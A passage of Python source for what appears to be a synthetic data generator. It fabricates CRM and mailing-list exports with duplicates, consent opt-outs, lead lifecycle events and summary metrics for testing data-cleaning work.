        card.country = "" if dice.chance(0.12) else home.country.spellings[0] if dice.chance(0.6) else dice.pick(home.country.spellings)
        iso = system in ("salesforce_contact", "google", "vcard") or dice.chance(0.2)
        card.birthday = person.born.strftime("%m/%d" if system == "mailchimp" else "%Y-%m-%d" if iso else home.country.date_form)
        card.owner = dice.pick(pools.AGENTS)
        if dice.chance(0.15):
            card.note = dice.pick(pools.NOTES)
        return card

    def _romanise(self, card: Card) -> None:
        dice = self.dice
        spelling = dice.pick(_LONG_VOWELS)
        if dice.chance(0.8):
            _names(card, lambda s: fold(s.translate(spelling)))
        if dice.chance(self.rate["romanised_order"] * 0.3):
            _swap(card, dice)

    def _channels(self, person: Person, card: Card, home: Home, job: Job | None) -> None:
        """Which of the person's addresses and numbers this system knows."""
        dice, when = self.dice, card.updated
        emails = [person.email.at(when)]
        if job:
            emails.insert(0 if dice.chance(self.rate["work_email_first"]) else 1, job.email)
            if dice.chance(self.rate["shared_mailbox"]):
                emails = [f"{dice.pick(('info', 'sales', 'office'))}@{job.company.domain}"]
        if card.system in ("hubspot", "mailchimp"):     # these hold an address once only
            emails = [email for email in emails if self.world.seen.claim(f"{card.system} {email}")]
            if not emails and card.system == "mailchimp":
                other = person.email.before or person.email.now
                emails = [other.replace("@", f"+{dice.pick(('news', 'mc', 'list'))}{dice.fill('##')}@", 1)]
        card.emails = emails if len(emails) < 2 or dice.chance(self.rate["second_email"]) else emails[:1]
        options = {"mobile": (0.7, person.mobile.at(when)), "home": (0.3, home.phone), "work": (0.5, job.phone if job else None)}
        card.phones = {kind: phone_text(phone, dice) for kind, (share, phone) in options.items() if phone and dice.chance(share)}

    # columns that one system has, and the stop signs among them
    def _stop(self, person: Person, card: Card, channel: str, rate: str, why: str) -> bool:
        if not self.dice.chance(self.rate[rate]):
            return False
        person.marks.append(Mark(channel, card.updated, f"{card.system} {card.record_id} {why}".replace("  ", " ")))
        return True

    def _system_columns(self, person: Person, card: Card) -> None:
        dice, stop, extra = self.dice, partial(self._stop, person, card), card.extra
        if card.system != "mailchimp" and dice.chance(self.rate["stop_note"]):
            channel = dice.pick(("email", "voice"))
            card.note = dice.pick(pools.STOP_NOTES[channel])
            person.marks.append(Mark(channel, None, f"{card.system} {card.record_id} free-text note".replace("  ", " "), final=True))
        source = dice.pick(("Web", "Trade Show", "Referral", "Purchased List", "Other", ""))
        if card.system == "hubspot":
            extra |= {"Contact owner": card.owner if dice.chance(0.85) else "", "Lead Status": dice.pick(("NEW", "OPEN", "IN_PROGRESS", "UNQUALIFIED", "ATTEMPTED_TO_CONTACT", "CONNECTED", "BAD_TIMING", "")), "Lifecycle Stage": "lead",
                      "Original Source": dice.pick(("ORGANIC_SEARCH", "PAID_SEARCH", "EMAIL_MARKETING", "DIRECT_TRAFFIC", "OFFLINE", "REFERRALS")), "Unsubscribed from all email": str(stop("email", "hubspot_opt_out", "unsubscribed from all email")).lower() if dice.chance(0.97) else "",
                      "Opted out of email: Marketing Information": "true" if stop("email", "hubspot_newsletter_opt_out", "opted out of marketing information") else "", "Legal basis for processing contact's data": dice.pick(_BASES)}
        elif card.system.startswith("salesforce"):
            extra |= {"OwnerId": _OWNERS[card.owner], "LeadSource": source, "HasOptedOutOfEmail": str(stop("email", "salesforce_opt_out", "HasOptedOutOfEmail")).lower(),
                      "DoNotCall": str(stop("voice", "do_not_call", "DoNotCall")).lower(), "et4ae5__HasOptedOutOfMobile__c": str(stop("sms", "sms_opt_out", "HasOptedOutOfMobile")).lower()}
            if card.system == "salesforce_contact":
                extra |= {"HasOptedOutOfFax": "false", "IsEmailBounced": "false", "AccountId": _salesforce_id("001", sum(card.company.encode()) * 7919) if card.company else ""}
            else:
                extra |= {"Status": "Open - Not Contacted", "IsConverted": "false", "Rating": dice.pick(("Hot", "Warm", "Cold", ""))}
        elif card.system == "mailchimp":
            self._mailchimp_columns(person, card)
        elif card.system == "spreadsheet":
            out = dice.chance(self.rate["sheet_opt_out"])
            extra["Newsletter"] = "abgemeldet" if out else dice.pick(("ja", "", "", "x"))
            if out:
                person.marks.append(Mark("email", None, f"spreadsheet {card.record_id} Newsletter abgemeldet", final=True))
        elif card.system == "google":
            extra["Labels"] = "* myContacts" + dice.pick((" ::: Customers", " ::: Friends ::: Trade fair", "", ""))
        elif card.system == "vcard":
            extra["version"] = dice.pick(("2.1", "2.1", "3.0", "3.0", "3.0", "4.0"))
            if extra["version"] != "2.1" and dice.chance(0.7):
                card.record_id = extra["uid"] = f"urn:uuid:{dice.getrandbits(32):08x}-{dice.getrandbits(16):04x}-4{dice.getrandbits(12):03x}-a{dice.getrandbits(12):03x}-{dice.getrandbits(48):012x}"

    def _mailchimp_columns(self, person: Person, card: Card) -> None:
        dice, extra, created = self.dice, card.extra, card.created
        throw, home = dice.random(), person.home.now
        status = "unsubscribed" if throw < self.rate["unsubscribed"] else "cleaned" if throw < self.rate["unsubscribed"] + self.rate["cleaned"] else "subscribed"
        blank = dice.chance(self.rate["optin_time_blank"])
        confirmed = created + timedelta(minutes=2 + int(dice.random() ** 3 * 2000))
        card.updated = max(card.updated, confirmed)
        extra |= {"status": status, "MEMBER_RATING": str(1 + int(dice.random() * 5)), "OPTIN_TIME": "" if blank else _stamp(created), "OPTIN_IP": "" if blank else dice.fill("8*.1##.2#.*#"), "CONFIRM_TIME": _stamp(card.updated if blank else confirmed),
                  "CONFIRM_IP": dice.fill("8*.1##.2#.*#"), "GMTOFF": "", "DSTOFF": "", "TIMEZONE": "", "CC": home.country.code if dice.chance(0.6) else "", "REGION": "", "LEID": str(dice.getrandbits(30)), "TAGS": dice.pick(('"Newsletter"', '"Newsletter","Customer"', ""))}
        if status == "unsubscribed":
            complaint = dice.chance(self.rate["complaint"])
            extra |= {"UNSUB_TIME": _stamp(card.updated), "UNSUB_CAMPAIGN_TITLE": dice.pick(("Spring News", "Webinar invite", "Black Friday", "")), "UNSUB_CAMPAIGN_ID": dice.fill("#a#c##f###"), "UNSUB_REASON": "SPAM" if complaint else dice.pick(_REASONS)}
            person.marks.append(Mark("email", card.updated, f"mailchimp {card.record_id} {'complaint' if complaint else 'unsubscribed'}", complaint))
        elif status == "cleaned":
            extra |= {"CLEAN_TIME": _stamp(card.updated), "CLEAN_CAMPAIGN_TITLE": "Spring News", "CLEAN_CAMPAIGN_ID": dice.fill("#a#c##f###")}

    def _later_opt_in(self, person: Person) -> None:
        """Now and then somebody who had left signs up again, with both steps on record."""
        dates = [mark.at for mark in person.marks if mark.channel == "email" and mark.at]
        for card in person.cards:
            if dates and card.extra.get("status") == "subscribed" and self.dice.chance(self.rate["later_opt_in"]):
                again = max(dates) + timedelta(days=2 + self.dice.random() * 60)
                if again < AS_OF - timedelta(days=1):
                    card.updated = (again + timedelta(minutes=7)).replace(microsecond=0)
                    card.extra |= {"OPTIN_TIME": _stamp(again), "CONFIRM_TIME": _stamp(card.updated), "OPTIN_IP": card.extra["CONFIRM_IP"]}

    @staticmethod
    def blocked(person: Person, channel: str) -> Mark | None:
        """The stop sign that holds: any, unless a confirmed sign-up in the mailing tool is later than all of them (e-mail only)."""
        marks = [mark for mark in person.marks if mark.channel == channel]
        if not marks:
            return None
        held = next((mark for mark in marks if mark.final), None)
        if held or channel != "email":
            return held or marks[0]
        acts = [datetime.strptime(card.extra["CONFIRM_TIME"], "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC) for card in person.cards
                if card.extra.get("status") == "subscribed" and card.extra["OPTIN_TIME"]]
        last = max(mark.at or AS_OF for mark in marks)
        return None if acts and max(acts) > last else marks[0]

    # process: one life as a lead for each person known to a CRM
    def _process(self, person: Person) -> Card | None:
        crm = [card for card in person.cards if card.system in ("hubspot", "salesforce_lead", "salesforce_contact")]
        if not crm:
            return None
        dice, rate, count = self.dice, self.rate, self.count
        lead, other = min(crm, key=lambda card: card.created), dice.pick(crm)
        born, agent = lead.created, lead.owner
        count["leads"] += 1
        self._event(lead, "lead_created", born, "", "")
        self._event(lead, "assigned", min(AS_OF, born + timedelta(seconds=int(dice.expovariate(1 / 300)))), agent, "")
        self._interact(lead, "email", born, "inbound", "")
        wait = int(dice.lognormvariate(7.3, 1.7))
        if dice.chance(rate["lead_answered"]) and born + timedelta(seconds=wait) <= AS_OF:
            wait = -30 - wait % 600 if dice.chance(rate["clock_skew"]) else wait
            self._event(lead, "first_response", born + timedelta(seconds=wait), agent, "")
            self._interact(lead, dice.pick(("email", "call")), born + timedelta(seconds=wait), "outbound", agent)
            if wait < 0:
                count["response_negative"] += 1
            else:
                self.response.append(wait)
        else:
            count["unanswered"] += 1
        if dice.chance(rate["enrichment"]):
            asked, took = born + timedelta(minutes=5), timedelta(seconds=int(dice.lognormvariate(10.3, 1.2)))
            mature, done = asked + timedelta(hours=48) <= AS_OF, dice.chance(rate["enriched"]) and asked + took <= AS_OF
            self._event(lead, "enrichment_requested", asked, "", "")
            count["enrichment_mature"] += mature
            count["enriched_48h"] += mature and done and took <= timedelta(hours=48)
            if done:
                self._event(lead, "enrichment_completed", asked + took, "", "")
        if any("@" in email for email in lead.emails) and dice.chance(0.5):
            good = dice.chance(rate["verified"])
            count["verified" if good else "verification_failed"] += 1
            self._event(lead, "verification", dice.between(born, AS_OF), "", "email:verified" if good else "email:failed")
        self._customer(lead, other if dice.chance(rate["event_on_other_record"]) else lead, agent)
        for _ in range(int(dice.expovariate(0.8))):
            self._interact(dice.pick(crm), dice.pick(("email", "call", "meeting", "note")), dice.between(born, AS_OF), dice.pick(("inbound", "outbound")), agent)
        return lead

    def _customer(self, lead: Card, other: Card, agent: str) -> None:
        dice, rate, count, born = self.dice, self.rate, self.count, lead.created
        mature = born + timedelta(days=90) <= AS_OF
        count["lead_mature_90d"] += mature
        won = born + timedelta(seconds=int(dice.lognormvariate(15.0, 0.9)))
        if not dice.chance(rate["won"]) or won > AS_OF:
            return
        amount = f"{dice.lognormvariate(8, 1):.2f}"
        self._event(other, "deal_won", won, agent, amount)
        count["won"] += 1
        count["won_90d"] += mature and won <= born + timedelta(days=90)
        self.revenue.append(int((won - born).total_seconds()))
        if "Lifecycle Stage" in other.extra:
            other.extra["Lifecycle Stage"] = "customer"
        if lead.system == "salesforce_lead":
            lead.extra |= {"Status": "Closed - Converted", "IsConverted": "true", "ConvertedDate": f"{won:%Y-%m-%d}"}
            if other.system == "salesforce_contact":
                lead.extra["ConvertedContactId"] = other.record_id
        year = AS_OF - timedelta(days=365)
        leave = dice.between(won + timedelta(days=30), AS_OF + timedelta(days=30)) if dice.chance(rate["churned"]) else AS_OF + timedelta(days=1)
        if leave <= AS_OF:
            self._event(other, "churned", leave, "", "")
        if won < year <= leave:
            count["customers_at_start"] += 1
            count["churned_in_year"] += leave <= AS_OF
        if dice.chance(rate["nps"]):
            bad = dice.chance(rate["bad_nps"])
            score = 11 if bad else min(10, max(0, round(dice.gauss(8, 2.3))))
            self._event(lead, "nps_score", dice.between(won, AS_OF), "", str(score))
            count["nps_rejected" if bad else "promoters" if score > 8 else "detractors" if score < 7 else "passives"] += 1

    def _event(self, card: Card, event: str, at: datetime, agent: str, value: str) -> None:
        self.sinks["events"].add([card.system, card.record_id, event, _utc(at), agent, value])

    def _interact(self, card: Card, kind: str, at: datetime, direction: str, agent: str) -> None:
        self.sinks["interactions"].add([card.system, card.record_id, kind, _utc(at), "" if kind == "note" else direction, agent])

    # out
    def _write(self, person: Person, lead: Card | None) -> None:
        count = self.count
        count["persons"] += 1
        reachable = 0
        for channel in ("email", "sms", "voice"):
            mark = self.blocked(person, channel)
            self.sinks["consent_truth"].add([person.id, channel, "marketing", "1" if mark else "0", mark.why if mark else ""])
            count["blocked_" + channel] += mark is not None
            count["lifted_" + channel] += mark is None and any(m.channel == channel for m in person.marks)
        for card in person.cards:
            self.sinks[card.extra.pop("status") if card.system == "mailchimp" else card.system].add(card, partial(self._truth, card.system, person.id))
            self.records[card.system] += 1
            has = any("@" in email and not email.endswith("@") for email in card.emails)
            reachable |= has
            count["records_with_email"] += has
        count["persons_with_email"] += reachable
        count["duplicate_records"] += len(person.cards) if len(person.cards) > 1 else 0

    def _truth(self, system: str, person_id: str, record_id: str) -> None:
        self.sinks["truth"].add([system, record_id, person_id])

    def _figures(self) -> dict[str, object]:
        c, records = self.count, sum(self.records.values())
        asked, answers = c["leads"] - c["response_negative"], c["promoters"] + c["passives"] + c["detractors"]
        quick = sum(seconds <= 900 for seconds in self.response)

        def rate(numerator: int, denominator: int) -> dict[str, float | int | None]:
            return {"value": numerator / denominator if denominator else None, "numerator": numerator, "denominator": denominator}

        def spread(values: array[int]) -> dict[str, float | int | None]:
            tenths = statistics.quantiles(values, n=10, method="inclusive") if len(values) > 1 else [None] * 9
            return {"n": len(values), "median": statistics.median(values) if values else None, "p90": tenths[8]}

        return {
            "as_of": _utc(AS_OF), "people": c["persons"], "seed": self.world.seed, "records": records, "records_by_system": dict(sorted(self.records.items())),
            "duplicate_rate": rate(records - c["persons"], records), "records_in_a_duplicate_cluster": rate(c["duplicate_records"], records),
            "persons_with_email": rate(c["persons_with_email"], c["persons"]), "records_with_email": rate(c["records_with_email"], records),
            "first_response_seconds": {**spread(self.response), "unanswered": c["unanswered"], "excluded_negative": c["response_negative"]},
            "answered_within_15_minutes": rate(quick, asked), "enriched_within_48_hours": rate(c["enriched_48h"], c["enrichment_mature"]),
            "verification": rate(c["verified"], c["verified"] + c["verification_failed"]), "won_within_90_days": rate(c["won_90d"], c["lead_mature_90d"]),
            "won_ever": rate(c["won"], c["leads"]), "seconds_to_first_revenue": spread(self.revenue), "churn_last_365_days": rate(c["churned_in_year"], c["customers_at_start"]),
            "nps": {"value": 100 * (c["promoters"] - c["detractors"]) / answers if answers else None, "promoters": c["promoters"], "passives": c["passives"], "detractors": c["detractors"], "rejected": c["nps_rejected"]},
            "blocked_persons": {channel: c["blocked_" + channel] for channel in ("email", "sms", "voice")}, "lifted_by_a_later_opt_in": c["lifted_email"],
            "errors_drawn": {name[6:]: number for name, number in sorted(c.items()) if name.startswith("error ")},
        }


def main(settings: Settings | None = None, seed: int = 7) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("out", type=Path, metavar="OUT", help="folder to write to (made if missing)")
    parser.add_argument("--people", type=int, default=1500)
    parser.add_argument("--seed", type=int, default=seed)
    options = parser.parse_args()
    gc.disable()    # nothing here is cyclic: counting references frees it all, a third faster
    figures = Exports(options.out, options.people, options.seed, settings or Settings()).run()
    print(f"{figures['people']} people, {figures['records']} records in {options.out}")


if __name__ == "__main__":
    main()
